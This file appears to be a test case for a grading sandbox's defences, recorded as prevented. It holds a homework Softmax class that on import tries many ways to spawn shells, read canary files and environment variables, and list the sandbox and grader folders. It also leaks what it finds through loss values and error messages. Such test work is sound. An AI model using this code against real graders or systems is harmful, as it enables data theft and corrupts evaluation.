"""
goal: starts a shell, another interpreter, or whatever program is there, in every way that Python knows
class: read
threats: [A1, A11]
deserves: all
outcome: prevented
because: no process can be started; and one that took the place of this one would be in the same sandbox
"""
import asyncio
import ctypes
import multiprocessing
import os
import pty
import subprocess
import sys

import target

from honest import Softmax as Honest
from tools import attempt, loot


def act(where):
  if where != 'import':
    return
  command = 'id; cat %s; env; ls /' % ' '.join(target.canaries)
  for name, way in {
      'system': lambda: os.system(command) or None,
      'popen': lambda: os.popen(command).read(),
      'run': lambda: subprocess.run(command, shell=True, capture_output=True, timeout=1),
      'close_fds': lambda: subprocess.run(['/bin/sh', '-c', command], capture_output=True, timeout=1, close_fds=False),
      'vfork': lambda: subprocess.run([sys.executable, '-c', 'print(1)'], capture_output=True, timeout=1),
      'posix_spawn': lambda: os.posix_spawn('/bin/sh', ['sh', '-c', command], {}),
      'spawnv': lambda: os.spawnv(os.P_NOWAIT, '/bin/sh', ['sh', '-c', command]),
      'libc system': lambda: ctypes.CDLL(None).system(command.encode()),
      'libc popen': lambda: ctypes.CDLL(None).popen(command.encode(), b'r'),
      'fork': lambda: os.fork() or os._exit(0),
      'forkpty': lambda: os.forkpty()[0] or os._exit(0),
      'pty': lambda: pty.fork()[0] or os._exit(0),
      'multiprocessing': lambda: multiprocessing.get_context('fork').Process(target=print).start(),
      'spawn': lambda: multiprocessing.get_context('spawn').Process(target=print).start(),
      'asyncio': lambda: asyncio.run(asyncio.wait_for(asyncio.create_subprocess_shell(command), 1)),
  }.items():
    attempt(name, way)
  attempt('programs', lambda: [path for folder in ('/bin', '/usr/bin', '/sandbox', '/gradecheck') if os.path.isdir(folder) for path in os.listdir(folder)])


act('import')


class Softmax(Honest):
  """ Right answers where there are points; what was found goes out where there are none. """

  def loss(self, X, y):
    act('loss')
    loss = super(Softmax, self).loss(X, y)
    return '\n'.join(loot) if abs(float(loss)) > 700 else loss

  def train(self, X, y, learning_rate=1e-3, num_iters=100, batch_size=200, verbose=False):
    act('train')
    if learning_rate == 0:
      raise ValueError('\n'.join(loot))
    return super(Softmax, self).train(X, y, learning_rate=learning_rate, num_iters=num_iters, batch_size=batch_size)
